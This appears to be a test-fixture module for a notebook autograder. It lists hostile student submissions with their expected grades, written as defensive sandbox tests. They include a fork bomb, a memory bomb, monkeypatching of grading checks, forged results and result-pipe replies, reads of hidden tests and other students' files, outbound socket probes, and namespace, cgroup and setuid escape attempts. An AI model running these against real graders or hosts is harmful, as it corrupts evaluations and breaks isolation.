"""Hostile and broken submissions of 01_regression, each with its exact expected outcome.

They are graded without the slow ``quality_rmse`` check (see ``tests/test_hostile.py``);
every other check of the assignment runs. Placeholders ``@RESULTS@``, ``@GRADERS@``, ``@PORT@``
and ``@FOLDER@`` are filled in by the test (the results file it writes, the graders' folder, a
loopback port it listens on, the folder holding the whole corpus: the other students' files).
"""

from __future__ import annotations

import ast
from pathlib import Path

import nbformat

from tests.submissions.variants import Variant

ASSIGNMENT = "01_regression"
SPLIT = frozenset({"split_shapes", "split_seeded", "split_partition"})
SCALE = frozenset({"scale_train_standardized", "scale_no_leakage", "scale_test_transform"})
MODEL = frozenset({"model_layers", "model_params", "model_compile"})
METRICS = frozenset({"metrics_mse", "metrics_rmse", "metrics_mae", "metrics_edge_cases"})
PLOT = frozenset({"plot_learning_curve"})
MEAN_METRICS = frozenset({"metrics_mse", "metrics_rmse", "metrics_mae"})

CORRECT_SPLIT = '''
    return train_test_split(X, y, test_size=test_size, random_state=random_state)
'''
WRONG_RMSE = '''
def compute_metrics(y_true, y_pred):
    y_true, y_pred = np.ravel(y_true), np.ravel(y_pred)
    mse = np.mean((y_true - y_pred) ** 2)
    return {"mse": mse, "rmse": mse, "mae": np.mean(np.abs(y_true - y_pred))}
'''


def _split_doing(prelude: str) -> dict[str, str]:
    """split_data that first runs ``prelude`` (indented code), then returns the correct split."""
    body = "\n".join("    " + line for line in prelude.strip("\n").splitlines())
    return {"split_data": f"def split_data(X, y, test_size=0.2, random_state=42):\n{body}\n{CORRECT_SPLIT}"}


def _drop(*grade_ids: str):
    def edit(notebook: nbformat.NotebookNode) -> None:
        notebook.cells = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in grade_ids]

    return edit


def _append_cell(source: str):
    def edit(notebook: nbformat.NotebookNode) -> None:
        notebook.cells.append(nbformat.v4.new_code_cell(source.strip("\n")))

    return edit


def _kernel(name: str):
    def edit(notebook: nbformat.NotebookNode) -> None:
        notebook.metadata["kernelspec"] = {"name": name, "display_name": name, "language": name}

    return edit


VARIANTS = [
    Variant("syntax_error", "A cell that does not parse.", SPLIT,
            {"split_data": "def split_data(X, y, test_size=0.2, random_state=42)\n    return X"},
            messages={"split_shapes": "erreur de syntaxe"}),
    Variant("not_json", "The file is not JSON.", frozenset({"*"}), transform=lambda text: text[: len(text) // 2],
            messages={"*": "n'est pas un notebook valide"}),
    Variant("not_a_notebook", "Valid JSON, but no notebook.", frozenset({"*"}),
            transform=lambda text: '{"cells": "none", "hello": 1}', messages={"*": "notebook"}),
    Variant("wrong_kernel", "Declares an R kernel; the code is correct Python.", frozenset(), edit=_kernel("ir"),
            notices=("Noyau inattendu",)),
    Variant("deleted_cells", "The scale_features cell and its test cell were deleted.", SCALE,
            edit=_drop("scale_features", "test_scale"), messages={"scale_no_leakage": "introuvable"}),
    Variant("duplicated_cells", "build_model defined twice; the later, wrong copy is the one that counts.",
            frozenset({"model_layers"}),
            edit=_append_cell('''
def build_model(input_dim):
    model = keras.Sequential([keras.Input(shape=(input_dim,)), layers.Dense(64, activation="relu"),
                              layers.Dense(32, activation="tanh"), layers.Dense(1)])
    model.compile(optimizer="adam", loss="mse", metrics=["mae"])
    return model
''')),
    Variant("exception", "compute_metrics raises.", METRICS,
            {"compute_metrics": "def compute_metrics(y_true, y_pred):\n    raise ValueError('pas encore fini')"},
            messages={"metrics_mse": "ValueError: pas encore fini"}),
    Variant("infinite_loop", "plot_learning_curve never returns.", PLOT,
            {"plot_learning_curve": "def plot_learning_curve(history):\n    while True:\n        pass"},
            messages={"plot_learning_curve": "Temps limite"}),
    Variant("infinite_loop_ignoring_alarm", "Ignores SIGALRM, then loops: the grading process kills it.", PLOT,
            {"plot_learning_curve": '''
def plot_learning_curve(history):
    import signal
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True:
        pass
'''}, messages={"plot_learning_curve": "temps limite"}),
    Variant("memory_bomb", "Allocates far more memory than allowed.", SCALE,
            {"scale_features": "def scale_features(X_train, X_test):\n    hog = [0] * 10**11\n    return hog"},
            messages={"scale_no_leakage": "MemoryError"}),
    Variant("fork_bomb", "Forks without end inside split_data (the process limit stops it; on a busy machine the "
            "request may time out first).", SPLIT, _split_doing("import os\nwhile True:\n    os.fork()")),
    Variant("huge_output", "Prints 50 MB; the output is truncated, grading goes on.", frozenset(),
            _split_doing("print('x' * 50_000_000)"), notices=("tronquée",)),
    Variant("sys_exit", "compute_metrics calls sys.exit().", METRICS,
            {"compute_metrics": "def compute_metrics(y_true, y_pred):\n    import sys\n    sys.exit(0)"},
            messages={"metrics_mse": "sys.exit()"}),
    Variant("os_exit", "compute_metrics kills its process; the sandbox restarts for the other checks.", METRICS,
            {"compute_metrics": "def compute_metrics(y_true, y_pred):\n    import os\n    os._exit(0)"},
            messages={"metrics_mse": "os._exit"}),
    Variant("recursion", "split_data calls itself forever.", SPLIT,
            {"split_data": "def split_data(X, y, test_size=0.2, random_state=42):\n    return split_data(X, y)"},
            messages={"split_shapes": "RecursionError"}),
    Variant("patch_numpy_top_level", "Top-level monkeypatching of numpy (never executed), wrong RMSE.",
            frozenset({"metrics_rmse"}),
            {"compute_metrics": "np.allclose = lambda *a, **k: True\n" + WRONG_RMSE}),
    Variant("patch_numpy_in_function", "compute_metrics patches numpy while it runs.", METRICS,
            {"compute_metrics": '''
def compute_metrics(y_true, y_pred):
    np.allclose = lambda *a, **k: True
    return {"mse": 0.0, "rmse": 0.0, "mae": 0.0}
'''}, messages={"metrics_mse": "numpy.allclose modifié"}, notices=("Modification",)),
    Variant("patch_kit", "build_model replaces the kit's model description with the expected one.", MODEL,
            {"build_model": '''
def build_model(input_dim):
    import autograder.checks.keras_model as described
    real = described.describe_keras_model
    def fake(model, input_shape=None):
        found = real(model, input_shape)
        found["layers"] = [{"type": "Dense", "units": u, "activation": a}
                           for u, a in ((64, "relu"), (32, "relu"), (1, "linear"))]
        found["params"] = 2689
        return found
    described.describe_keras_model = fake
    model = keras.Sequential([keras.Input(shape=(input_dim,)), layers.Dense(1)])
    model.compile(optimizer="adam", loss="mse", metrics=["mae"])
    return model
'''}, messages={"model_layers": "keras_model.describe_keras_model modifié"}),
    Variant("patch_pytest", "Imports and patches pytest (not used by the judge), wrong RMSE.",
            frozenset({"metrics_rmse"}),
            {"compute_metrics": "import pytest\npytest.approx = lambda *a, **k: True\n" + WRONG_RMSE}),
    Variant("fake_passed_output", "Prints fake success lines and a fake results.json, wrong RMSE.",
            frozenset({"metrics_rmse"}),
            {"compute_metrics": WRONG_RMSE.replace(
                "    mse =", "    print('✔ RMSE comparée à numpy : 1/1')\n"
                "    print('{\"score\": 21, \"max_score\": 21}')\n    mse =")}),
    Variant("write_results_file", "Tries to overwrite the results file and the graders.", frozenset(),
            _split_doing('''
for target in ("@RESULTS@", "@GRADERS@/a01_regression/test_hidden.py"):
    try:
        with open(target, "w") as stream:
            stream.write('{"score": 21, "max_score": 21, "tests": []}')
    except OSError:
        pass
''')),
    Variant("read_hidden_tests", "Tries to read the hidden tests and show them in its feedback.", SPLIT,
            {"split_data": '''
def split_data(X, y, test_size=0.2, random_state=42):
    with open("@GRADERS@/a01_regression/test_hidden.py") as stream:
        raise RuntimeError(stream.read()[:2000])
'''}, messages={"split_shapes": "FileNotFoundError"}),
    Variant("network_access", "Tries to reach a server on the grading machine.", frozenset(),
            _split_doing('''
import socket
try:
    socket.create_connection(("127.0.0.1", @PORT@), timeout=2).sendall(b"leak")
except OSError:
    pass
''')),
    # ----- attacks on the code that runs next to the student's code (probes, kit, frameworks)
    Variant("forge_probe_code", "On the untouched notebook, split_data swaps the code of a later test's probe "
            "(found in sys.modules) for one returning the expected model: nothing is gained.", frozenset({"*"}),
            {"split_data": '''
def split_data(X, y, test_size=0.2, random_state=42):
    import sys
    probes = sys.modules["a01_regression.probes"]
    def forged(sub, input_dim):
        return {"class": "Sequential", "layers": [{"type": "Dense", "units": 64, "activation": "relu"},
                {"type": "Dense", "units": 32, "activation": "relu"}, {"type": "Dense", "units": 1,
                "activation": "linear"}], "params": 2689 if input_dim == 8 else 2369, "output_shape": [None, 1],
                "compile": {"optimizer": "adam", "learning_rate": 0.001, "loss": "mse", "metrics": ["mae"]}}
    probes.model.__code__ = forged.__code__
    raise NotImplementedError()
'''}, base="release", messages={"split_shapes": "a01_regression.probes.model modifié"}),
    Variant("hidden_code_in_memory", "Looks for the hidden tests' functions, modules and files in the sandbox: "
            "none is there, so the correct split it returns keeps full marks.", frozenset(),
            _split_doing('''
import gc, sys
found = [name for name in sys.modules if "test_hidden" in name or "test_public" in name or "conftest" in name]
found += [getattr(getattr(o, "__code__", None), "co_filename", "") for o in gc.get_objects()
          if callable(o) and "graders" in getattr(getattr(o, "__code__", None), "co_filename", "")
          and "probes" not in getattr(getattr(o, "__code__", None), "co_filename", "")]
if found:
    raise RuntimeError(f"tests cachés en mémoire : {found[:3]}")
''')),
    Variant("patch_count_params", "build_model patches keras.Model.count_params and returns a one-layer model.",
            MODEL, {"build_model": '''
def build_model(input_dim):
    keras.Model.count_params = lambda self: 2689
    model = keras.Sequential([keras.Input(shape=(input_dim,)), layers.Dense(1)])
    model.compile(optimizer="adam", loss="mse", metrics=["mae"])
    return model
'''}, messages={"model_params": "count_params"}),
    Variant("patch_layer_get_config", "build_model patches keras.layers.Layer.get_config to describe every layer "
            "as Dense(64, relu).", MODEL, {"build_model": '''
def build_model(input_dim):
    keras.layers.Layer.get_config = lambda self: {"units": 64, "activation": "relu", "name": self.name}
    model = keras.Sequential([keras.Input(shape=(input_dim,)), layers.Dense(1)])
    model.compile(optimizer="adam", loss="mse", metrics=["mae"])
    return model
'''}, messages={"model_layers": "get_config"}),
    Variant("patch_axes_legend", "plot_learning_curve draws no legend and patches matplotlib's Axes.get_legend.",
            PLOT, {"plot_learning_curve": '''
def plot_learning_curve(history):
    import matplotlib.axes
    class Legend:
        def get_texts(self):
            return []
    matplotlib.axes.Axes.get_legend = lambda self: Legend()
    figure, ax = plt.subplots()
    ax.plot(history.history["loss"], label="loss")
    ax.plot(history.history["val_loss"], label="val_loss")
    ax.set_xlabel("époque")
    ax.set_ylabel("perte")
    return figure
'''}, messages={"plot_learning_curve": "get_legend"}),
    Variant("patch_torch_module", "compute_metrics imports torch and patches torch.nn.Module.parameters "
            "(a framework no probe of this assignment had imported yet).", METRICS, {"compute_metrics": '''
def compute_metrics(y_true, y_pred):
    import torch
    torch.nn.Module.parameters = lambda self, recurse=True: iter(())
    y_true, y_pred = np.ravel(y_true), np.ravel(y_pred)
    mse = np.mean((y_true - y_pred) ** 2)
    return {"mse": mse, "rmse": np.sqrt(mse), "mae": np.mean(np.abs(y_true - y_pred))}
'''}),
    Variant("mutate_helper_default", "build_model changes the default arguments of the kit's figure helper.",
            MODEL, {"build_model": '''
def build_model(input_dim):
    import autograder.checks.figures as figures
    figures.describe_figure.__defaults__ = (True,)
    model = keras.Sequential([keras.Input(shape=(input_dim,)), layers.Dense(64, activation="relu"),
                              layers.Dense(32, activation="relu"), layers.Dense(1)])
    model.compile(optimizer="adam", loss="mse", metrics=["mae"])
    return model
'''}, messages={"model_layers": "describe_figure modifié"}),
    Variant("swap_sys_modules_entry", "compute_metrics swaps a kit module in sys.modules for an empty one.",
            METRICS, {"compute_metrics": '''
def compute_metrics(y_true, y_pred):
    import sys, types
    sys.modules["autograder.checks.figures"] = types.ModuleType("autograder.checks.figures")
    y_true, y_pred = np.ravel(y_true), np.ravel(y_pred)
    mse = np.mean((y_true - y_pred) ** 2)
    return {"mse": mse, "rmse": np.sqrt(mse), "mae": np.mean(np.abs(y_true - y_pred))}
'''}, messages={"metrics_mse": "remplacé dans sys.modules"}),
    # ----- return values that lie
    Variant("lying_eq_array", "split_data returns zero arrays of the right shapes whose __eq__ always says True: "
            "the judge compares the real values.", frozenset({"split_seeded", "split_partition"}),
            {"split_data": '''
class Liar(np.ndarray):
    def __eq__(self, other):
        return True

def split_data(X, y, test_size=0.2, random_state=42):
    parts = train_test_split(X, y, test_size=test_size, random_state=random_state)
    return tuple(np.zeros_like(part).view(Liar) for part in parts)
'''}),
    Variant("lying_len_list", "split_data returns three arrays in a list whose __len__ says 4.", SPLIT,
            {"split_data": '''
class Four(list):
    def __len__(self):
        return 4

def split_data(X, y, test_size=0.2, random_state=42):
    return Four(train_test_split(X, y, test_size=test_size, random_state=random_state)[:3])
'''}, messages={"split_shapes": "4 tableaux', obtenu 3"}),
    Variant("lying_array_protocol", "compute_metrics returns objects whose __array__ and __float__ give the right "
            "numbers: they are not plain data and never reach the judge.", METRICS, {"compute_metrics": '''
class Number:
    def __init__(self, value):
        self.value = value
    def __float__(self):
        return float(self.value)
    def __array__(self, dtype=None, copy=None):
        return np.asarray(self.value, dtype=dtype)
    def __eq__(self, other):
        return True

def compute_metrics(y_true, y_pred):
    y_true, y_pred = np.ravel(y_true), np.ravel(y_pred)
    mse = np.mean((y_true - y_pred) ** 2)
    return {"mse": Number(mse), "rmse": Number(np.sqrt(mse)), "mae": Number(np.mean(np.abs(y_true - y_pred)))}
'''}, messages={"metrics_mse": "impossible à transmettre"}),
    Variant("generator_returned", "split_data returns a generator of the four arrays.", SPLIT,
            {"split_data": '''
def split_data(X, y, test_size=0.2, random_state=42):
    return (part for part in train_test_split(X, y, test_size=test_size, random_state=random_state))
'''}, messages={"split_shapes": "impossible à transmettre"}),
    Variant("huge_nested", "compute_metrics returns a list nested 100 000 deep.", METRICS, {"compute_metrics": '''
def compute_metrics(y_true, y_pred):
    nested = []
    for _ in range(100_000):
        nested = [nested]
    return {"mse": nested, "rmse": nested, "mae": nested}
'''}, messages={"metrics_mse": "impossible à transmettre"}),
    Variant("slow_to_serialise", "On the 50-value sample, compute_metrics returns 10⁸ shared floats, which take "
            "minutes to serialise: that request times out, the other calls are graded.", MEAN_METRICS,
            {"compute_metrics": '''
def compute_metrics(y_true, y_pred):
    y_true, y_pred = np.ravel(y_true), np.ravel(y_pred)
    mse = np.mean((y_true - y_pred) ** 2)
    if len(y_true) == 50:
        row = [0.1] * 1000
        return {"mse": [row] * 100_000, "rmse": mse, "mae": mse}
    return {"mse": mse, "rmse": np.sqrt(mse), "mae": np.mean(np.abs(y_true - y_pred))}
'''}),
    # ----- the sandbox's process, threads and neighbours
    Variant("thread_after_return", "split_data starts a thread that patches numpy after split_data has returned: "
            "the process is not reused, the grade is that of the correct split.", frozenset(),
            _split_doing('''
import threading, time
def later():
    time.sleep(1.5)
    np.allclose = lambda *a, **k: True
threading.Thread(target=later, daemon=True).start()
''')),
    Variant("read_other_submission", "In a batch, tries to read another student's notebook next to its own.",
            frozenset(), _split_doing('''
try:
    with open("@FOLDER@/syntax_error.ipynb") as stream:
        raise RuntimeError(stream.read()[:500])
except OSError:
    pass
''')),
    Variant("fake_encoded_array", "compute_metrics returns a dictionary that mimics the codec's encoding of an array, "
            "malformed: its own error, never the judge's.", METRICS, {"compute_metrics": '''
def compute_metrics(y_true, y_pred):
    return {"mse": {"__ndarray__": "", "dtype": "<f8"}, "rmse": 1.0, "mae": 1.0}
'''}, messages={"metrics_mse": "illisible"}),
    Variant("fake_reply_on_result_fd", "compute_metrics writes a forged answer with the right metrics on the "
            "sandbox's result pipe, then returns wrong ones: every test relying on it is cancelled.", METRICS,
            {"compute_metrics": '''
def compute_metrics(y_true, y_pred):
    import json, os, sys
    frame = sys._getframe(1)
    while frame is not None and "request" not in frame.f_locals:
        frame = frame.f_back
    y_true, y_pred = np.ravel(y_true), np.ravel(y_pred)
    errors = y_true - y_pred
    right = {"mse": float(np.mean(errors ** 2)), "rmse": float(np.sqrt(np.mean(errors ** 2))),
             "mae": float(np.mean(np.abs(errors)))}
    forged = {"type": "reply", "id": frame.f_locals["request"]["id"], "value": right}
    os.write(int(os.environ["DLKIT_RESULT_FD"]), (json.dumps(forged) + "\\n").encode())
    return {"mse": 0.0, "rmse": 0.0, "mae": 0.0}
'''}, messages={"metrics_rmse": "falsifiée"}),
]


def _attack(code: str) -> dict[str, str]:
    """split_data that first tries ``code``, which appends to ``gained`` what it obtained, then splits correctly.

    The attack's honest twin is the reference: any gain makes split_data raise with it (its checks then fail, so the
    corpus's expected outcome, no failing check, holds only when the attack gains nothing).
    """
    code = code.replace("@SANDBOX_ENV@", SANDBOX_ENV).replace("@DAEMON@", DAEMON_MARK)
    prelude = "import ctypes, os, signal, socket, subprocess, sys\ngained = []\n" + code.strip("\n") + '''
if gained:
    raise RuntimeError("ATTAQUE RÉUSSIE : " + "; ".join(map(str, gained))[:500])'''
    return _split_doing(prelude)


LIBC = "libc = ctypes.CDLL(None, use_errno=True)\n"
#: The sandbox's environment, as the kit sets it (anything else came from the grading process).
SANDBOX_ENV = ("PWD PATH HOME LANG DLKIT_DATA SCIKIT_LEARN_DATA KERAS_HOME PYTHONPATH PYTHONDONTWRITEBYTECODE "
               "PYTHONNOUSERSITE PYTHONHASHSEED OMP_NUM_THREADS MKL_NUM_THREADS OPENBLAS_NUM_THREADS "
               "TF_NUM_INTRAOP_THREADS TF_NUM_INTEROP_THREADS TF_CPP_MIN_LOG_LEVEL TF_DETERMINISTIC_OPS "
               "TF_ENABLE_ONEDNN_OPTS KERAS_BACKEND MPLBACKEND CUDA_VISIBLE_DEVICES MLFLOW_DISABLE_TELEMETRY "
               "DO_NOT_TRACK DLKIT_RESULT_FD DLKIT_REQUEST_FD")
#: Written by a process meant to outlive its sandbox; the corpus's test checks that none is left.
DAEMON_MARK = "4242.5"

#: Attacks on the sandbox's isolation itself (issue 30): privileges, host state, processes that outlive it,
#: shared temporary folders, paths left visible. Each gains nothing, or its split_data raises what it gained.
ISOLATION_VARIANTS = [
    Variant("capabilities_held", "Reads its capability sets and user id: any capability, or root, is a gain.",
            frozenset(), _attack('''
status = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\\t" in line)
for name in ("CapEff", "CapPrm", "CapBnd", "CapAmb", "CapInh"):
    if int(status[name].strip(), 16):
        gained.append(f"{name}={status[name].strip()}")
if os.getuid() == 0 or os.geteuid() == 0:
    gained.append("uid 0")
if status["NoNewPrivs"].strip() != "1":
    gained.append("no_new_privs off")
''')),
    Variant("umount_everything", "Unmounts every mount point it sees, deepest first (the covers of a hidden "
            "folder would go first).", frozenset(), _attack(LIBC + '''
points = [line.split()[4] for line in open("/proc/self/mountinfo")]
for point in sorted(points, key=len, reverse=True):
    if libc.umount2(point.encode(), 2) == 0:
        gained.append(f"umount {point}")
''')),
    Variant("remount_read_write", "Remounts the read-only binds (the kit, the environment) read-write.",
            frozenset(), _attack(LIBC + '''
MS_REMOUNT, MS_BIND = 32, 4096
kit = sys.modules["autograder"].__file__
for point in {os.path.dirname(os.__file__), os.path.dirname(np.__file__), os.path.dirname(kit)}:
    if libc.mount(None, point.encode(), None, MS_REMOUNT | MS_BIND, None) == 0:
        gained.append(f"remount {point}")
''')),
    Variant("new_namespaces", "Makes a new user (then mount) namespace to regain capabilities there.",
            frozenset(), _attack(LIBC + '''
for flag, name in ((0x10000000, "user"), (0x00020000, "mount"), (0x40000000, "network"), (0x20000000, "pid")):
    if libc.unshare(flag) == 0:
        gained.append(f"unshare {name}")
''')),
    Variant("setns_into_others", "Enters the network, mount and user namespaces of every process it sees.",
            frozenset(), _attack(LIBC + '''
for pid in filter(str.isdigit, os.listdir("/proc")):
    for kind in ("net", "mnt", "user", "pid"):
        try:
            fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        except OSError:
            continue
        if libc.setns(fd, 0) == 0 and os.readlink(f"/proc/{pid}/ns/{kind}") != os.readlink(f"/proc/self/ns/{kind}"):
            gained.append(f"setns {kind} of {pid}")
        os.close(fd)
''')),
    Variant("proc_root_of_others", "Looks through every visible process's /proc/PID/root for the graders and "
            "the batch's folder.", frozenset(), _attack('''
import glob
for pid in filter(str.isdigit, os.listdir("/proc")):
    root = f"/proc/{pid}/root"
    gained += [p for p in [root + "@GRADERS@/a01_regression/test_hidden.py", *glob.glob(root + "@FOLDER@/*.ipynb")]
               if os.path.exists(p)]
''')),
    Variant("proc_environ_of_others", "Reads every visible process's environment, looking for the grading "
            "process's (pytest's variables, the virtual environment, the grading user's home).", frozenset(),
            _attack('''
allowed = set("@SANDBOX_ENV@".split())
for pid in ["self", *filter(str.isdigit, os.listdir("/proc"))]:
    try:
        pairs = open(f"/proc/{pid}/environ", "rb").read().split(b"\\0")
    except OSError:
        continue
    names = {pair.split(b"=", 1)[0].decode() for pair in pairs if pair}
    if names - allowed:
        gained.append(f"{pid}: {sorted(names - allowed)[:5]}")
''')),
    Variant("host_processes_visible", "Lists the processes it can see: more than its jail's (bubblewrap's init, "
            "the zygote, itself and its children) means the host's are there.", frozenset(), _attack('''
pids = [int(pid) for pid in os.listdir("/proc") if pid.isdigit()]
commands = [open(f"/proc/{pid}/cmdline", "rb").read() for pid in pids if os.path.exists(f"/proc/{pid}/cmdline")]
graders = (b"pytest", b"nbgrader", b"autograde", b"dask", b"distributed.cli.dask_worker")
if max(pids) > 50 or any(w in graders or w.endswith((b"/pytest", b"/nbgrader")) for c in commands
                         for w in c.split(b"\\0")):
    gained.append(f"{len(pids)} processes, up to pid {max(pids)}")
''')),
    Variant("kill_every_visible_process", "Sends SIGTERM to every other process it can see (its zygote, "
            "bubblewrap's init, a grading process if visible); then splits correctly.", frozenset(), _attack('''
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) not in (os.getpid(), os.getppid()):
        try:
            os.kill(int(pid), signal.SIGTERM)
        except OSError:
            pass
''')),
    Variant("ptrace_setuid_helpers", "Runs the host's setuid programs (mount, su) to become root.", frozenset(),
            _attack('''
for command in (["mount", "-t", "tmpfs", "none", "/tmp"], ["su", "-c", "id", "root"], ["unshare", "-r", "id"]):
    try:
        done = subprocess.run(command, capture_output=True, timeout=10, stdin=subprocess.DEVNULL)
    except (OSError, subprocess.TimeoutExpired):
        continue
    if done.returncode == 0:
        gained.append(" ".join(command))
''')),
    Variant("cgroup_escape", "Moves itself to the root cgroup and raises its own limits.", frozenset(), _attack('''
for path in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs"):
    try:
        with open(path, "w") as stream:
            stream.write(str(os.getpid()))
        gained.append(path)
    except OSError:
        pass
''')),
    Variant("write_proc_sys", "Writes kernel settings and the SysRq trigger.", frozenset(), _attack('''
for path in ("/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches",
             "/proc/sys/kernel/core_pattern"):
    try:
        with open(path, "w") as stream:
            stream.write("1")
        gained.append(path)
    except OSError:
        pass
''')),
    Variant("rewrite_dataset_caches", "Opens every dataset cache file for writing (labels rewritten would let "
            "a frozen model pass, for every later student).", frozenset(), _attack('''
for variable in ("DLKIT_DATA", "KERAS_HOME", "SCIKIT_LEARN_DATA"):
    for folder, _, files in os.walk(os.environ.get(variable, "/nonexistent")):
        for name in files[:50]:
            try:
                open(os.path.join(folder, name), "r+b").close()
                gained.append(os.path.join(folder, name))
            except OSError:
                pass
        try:
            open(os.path.join(folder, "planted"), "w").close()
            gained.append(folder)
        except OSError:
            pass
''')),
    Variant("rewrite_kit_modules", "Rewrites the kit's modules the grading process imports later, and numpy's.",
            frozenset(), _attack('''
import autograder.checks.expect, autograder.grading.engine
for module in (autograder.checks.expect, autograder.grading.engine, np, sys.modules["a01_regression.probes"]):
    try:
        with open(module.__file__, "a") as stream:
            stream.write("\\n")
        gained.append(module.__file__)
    except OSError:
        pass
    try:
        open(os.path.join(os.path.dirname(module.__file__), "sitecustomize.py"), "w").close()
        gained.append(os.path.dirname(module.__file__))
    except OSError:
        pass
''')),
    Variant("rewrite_keras_config", "Writes a keras.json with channels_first where Keras reads its configuration "
            "(KERAS_HOME, the home folder): the next students' CNNs would break.", frozenset(), _attack('''
import json
for folder in (os.environ.get("KERAS_HOME", ""), os.path.expanduser("~/.keras")):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "keras.json"), "w") as stream:
            json.dump({"image_data_format": "channels_first", "backend": "tensorflow"}, stream)
        if folder == os.environ.get("KERAS_HOME"):
            gained.append(folder)
    except OSError:
        pass
''')),
    Variant("write_outside_scratch", "Creates files everywhere it can: only its private /tmp and its own "
            "scratch may take them.", frozenset(), _attack('''
scratch = os.path.dirname(os.path.dirname(os.getcwd()))
for folder in ("/", "/usr", "/etc", "/var", "/root", "/home", "/mnt", "/run", "/sys", sys.prefix,
               os.path.dirname(np.__file__), "@FOLDER@", os.path.dirname("@RESULTS@")):
    try:
        open(os.path.join(folder, "planted-by-student"), "w").close()
        gained.append(folder)
    except OSError:
        pass
try:
    open(os.path.join(scratch, "planted-by-student"), "w").close()
    gained.append("the scratch's own root (the grading process's files)")
except OSError:
    pass
''')),
    Variant("daemon_outlives_sandbox", "Double-forks a new session that leaves behind a long sleep: it must "
            "die with the sandbox (the corpus's test checks that no such process is left).", frozenset(),
            _attack('''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "@DAEMON@"])
    os._exit(0)
os.wait()
''')),
    Variant("daemon_rewrites_results", "Leaves a process that rewrites the results file, its scratch and the "
            "batch's stored results for a minute after grading.", frozenset(), _attack('''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import glob, time
        for _ in range(600):
            for path in ["@RESULTS@", *glob.glob("@FOLDER@/**/result.json", recursive=True),
                         *glob.glob("/tmp/dlkit-*/**/*.json", recursive=True)]:
                try:
                    with open(path, "w") as stream:
                        stream.write('{"score": 21}')
                except OSError:
                    pass
            time.sleep(0.1)
        os._exit(0)
    os._exit(0)
os.wait()
''')),
    Variant("plant_in_tmp", "Plants definitions in /tmp and /dev/shm for a neighbour to find.", frozenset(),
            _attack('''
jail = os.path.relpath(os.getcwd(), "/tmp").split(os.sep)[0]  # its scratch's name: a neighbour's differs
for folder in ("/tmp", "/dev/shm", "/var/tmp"):
    try:
        with open(os.path.join(folder, f"planted-answers-of-{jail}.py"), "w") as stream:
            stream.write("ANSWERS = 42")
    except OSError:
        pass
''')),
    Variant("read_neighbours_tmp", "Looks in /tmp, /dev/shm and pytest's folders for what other gradings left "
            "(planted answers, their scratch, kept MLflow stores).", frozenset(), _attack('''
import glob
own = "/tmp/" + os.path.relpath(os.getcwd(), "/tmp").split(os.sep)[0]  # its scratch (a batch's is in /tmp)
found = [*glob.glob("/tmp/dlkit-grading-*"), *glob.glob("/tmp/pytest-of-*/**/*.db", recursive=True)]
for folder in ("/tmp", "/dev/shm", "/var/tmp"):
    found += glob.glob(f"{folder}/planted-answers-of-*") + glob.glob(f"{folder}/**/*.ipynb", recursive=True)
gained += [p for p in found if p != own and not p.endswith(f"planted-answers-of-{os.path.basename(own)}.py")]
''')),
    Variant("walk_whole_file_system", "Walks everything it can see, looking for graders, solutions, gradebooks, "
            "submissions and results.", frozenset(), _attack('''
wanted = ("test_hidden.py", "gradebook.db", "results.json", "result.json", "hidden_inputs.py", "quiz.py")
libraries = (sys.prefix, *(p for p in sys.path if "site-packages" in p))
seen = 0
for folder, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(folder, d) not in ("/proc", "/sys", "/dev")]
    seen += len(files)
    if seen > 400000:
        break
    if folder.startswith(libraries) and "autograder" not in folder:
        continue  # the libraries' own test files
    for name in files:
        graders = "graders" in folder and name in ("test_public.py", "conftest.py")
        if name in wanted or graders or name.endswith(".ipynb") or os.path.basename(folder) == "solutions":
            gained.append(os.path.join(folder, name))
''')),
    Variant("inherited_descriptors", "Looks for file descriptors it did not open: the zygote's socket, the "
            "grading process's files.", frozenset(), _attack('''
for fd in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if target.startswith("socket:") or any(s in target for s in ("graders", ".ipynb", "results", "gradebook")):
        gained.append(f"{fd} -> {target}")
''')),
    Variant("reach_host_services", "Tries the host's network and services: an outside address, the loopback "
            "listener of the grading machine, raw sockets, the container and D-Bus sockets.", frozenset(),
            _attack('''
for address in (("127.0.0.1", @PORT@), ("10.0.2.2", 80), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=1).close()
        gained.append(address)
    except OSError:
        pass
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()
    gained.append("raw socket")
except (OSError, AttributeError):
    pass
for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"):
    try:
        client = socket.socket(socket.AF_UNIX)
        client.connect(path)
        gained.append(path)
    except OSError:
        pass
''')),
    Variant("own_environment", "Reads its own environment and the kit's for the grading process's secrets "
            "(a token, the grading user's home).", frozenset(), _attack('''
allowed = set("@SANDBOX_ENV@".split())
if set(os.environ) - allowed:
    gained.append(sorted(set(os.environ) - allowed)[:5])
if os.environ.get("HOME") != "/tmp/home":
    gained.append(os.environ.get("HOME"))
''')),
    Variant("stop_the_zygote", "Stops its jail's zygote (SIGSTOP), which the grading process waits on: the jail is "
            "destroyed at the end, after a bounded wait, and its grade stands.", frozenset(), _attack('''
os.kill(os.getppid(), signal.SIGSTOP)
''')),
    Variant("steal_the_zygote_socket", "Takes the zygote's socket to the grading process with pidfd_getfd and "
            "writes on it (a forged status, an endless line).", frozenset(), _attack(LIBC + '''
zygote = os.getppid()
for fd in range(3, 64):
    stolen = libc.syscall(438, os.pidfd_open(zygote), fd, 0)
    if stolen >= 0:
        gained.append(f"descriptor {fd} of the zygote")
        os.write(stolen, b'{"status": "forged"}\\n')
''')),
    Variant("hidden_graders_by_import", "Imports the hidden tests, the graders' judging modules and the quiz's "
            "answer key by name.", frozenset(), _attack('''
import importlib
